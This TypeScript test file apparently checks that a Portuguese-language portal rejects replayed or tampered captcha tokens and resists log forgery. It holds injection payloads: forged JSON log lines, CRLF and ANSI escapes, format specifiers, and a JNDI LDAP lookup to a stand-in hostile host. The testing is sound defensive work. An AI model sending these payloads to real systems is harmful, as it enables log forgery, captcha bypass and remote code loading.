/** Captchas that are used again or altered, and forged log lines. */
import { readFile } from 'node:fs/promises';
import { expect, it } from 'vitest';
import { solveAltcha } from '../solve-altcha.ts';
import { ask, askJson, inParallel, portal } from './attack.ts';

const message = {
  nome: 'Caio',
  titulo: 'Pauta',
  email: 'caio@exemplo.com',
  mensagem: 'Falem de impressoras.',
};
const sendMessage = (captchaToken: string, from?: string) =>
  ask('/api/contato', { method: 'POST', body: { ...message, captchaToken }, ...(from ? { from } : {}) });

it('accepts a solved captcha once, and an altered one never', async () => {
  const challenge = await askJson('/api/captcha');
  const token = await solveAltcha(challenge);
  const together = await Promise.all(Array.from({ length: 12 }, () => sendMessage(token)));
  expect(together.filter(({ status }) => status === 200).length).toBe(1);
  const read = JSON.parse(Buffer.from(token, 'base64').toString());
  const write = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64');
  const altered = [
    '',
    'x',
    token.slice(1),
    `${token}=`,
    token.toLowerCase(),
    write(null),
    write([]),
    write({}),
    write({ ...read, solution: { counter: 0 } }),
    write({ ...read, challenge: { ...read.challenge, signature: 'a' } }),
    write({
      challenge: { ...read.challenge, parameters: { ...read.challenge.parameters, cost: 1 } },
      solution: read.solution,
    }),
    write({ __proto__: null, ...read, verified: true }),
    'a'.repeat(30_000),
    '{"verified":true}',
    'true',
  ];
  await inParallel(altered, async (text) => {
    const answer = await sendMessage(text);
    expect(answer.status, text.slice(0, 40)).toBeGreaterThanOrEqual(400);
    expect(answer.status, text.slice(0, 40)).toBeLessThan(500);
  });
  expect((await sendMessage(token)).status).toBe(400);
});

it('no request forges lines of the log', async () => {
  const mark = 'LINHAFALSA';
  const texts = [
    `\n{"level":60,"msg":"${mark}"}`,
    `\r\n${mark}`,
    `%0a${mark}`,
    `\u001b[2J${mark}`,
    `\u001b]0;${mark}\u0007`,
    `","level":60,"x":"${mark}`,
    `\u2028${mark}`,
    `\u0085${mark}`,
    `\\n${mark}`,
    `\${jndi:ldap://mal.exemplo/${mark}}`,
    `%s%n%x${mark}`,
    `\u0000${mark}`,
    `\u0008\u0008${mark}`,
  ];
  await inParallel(texts, async (text) => {
    const asHeader = text.replaceAll(/[^\x20-\x7e]/g, ' ');
    const headers = {
      'User-Agent': asHeader,
      Referer: asHeader,
      'X-Request-Id': asHeader,
      'X-Forwarded-For': asHeader,
    };
    await ask(`/${encodeURIComponent(text)}`, { headers });
    await ask(`/busca?q=${encodeURIComponent(text)}`, { headers });
    await ask('/login', { method: 'POST', body: { email: `${text}@exemplo.com`, password: 'x' }, headers });
    await ask('/contato', { method: 'POST', body: { ...message, nome: text, captchaToken: text }, headers });
    await ask('/api/redacao/resumo', { headers: { ...headers, Cookie: `sessao=${asHeader}` } });
  });
  const log = await readFile(portal.logFile, 'utf8');
  // The portal still writes: the last line may be incomplete.
  for (const line of log.split('\n').slice(0, -1)) {
    if (line === '' || line.startsWith('Pauta em ')) continue;
    const entry = JSON.parse(line);
    expect(entry.level, line).toBeLessThan(60);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for.
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028]/);
  }
});
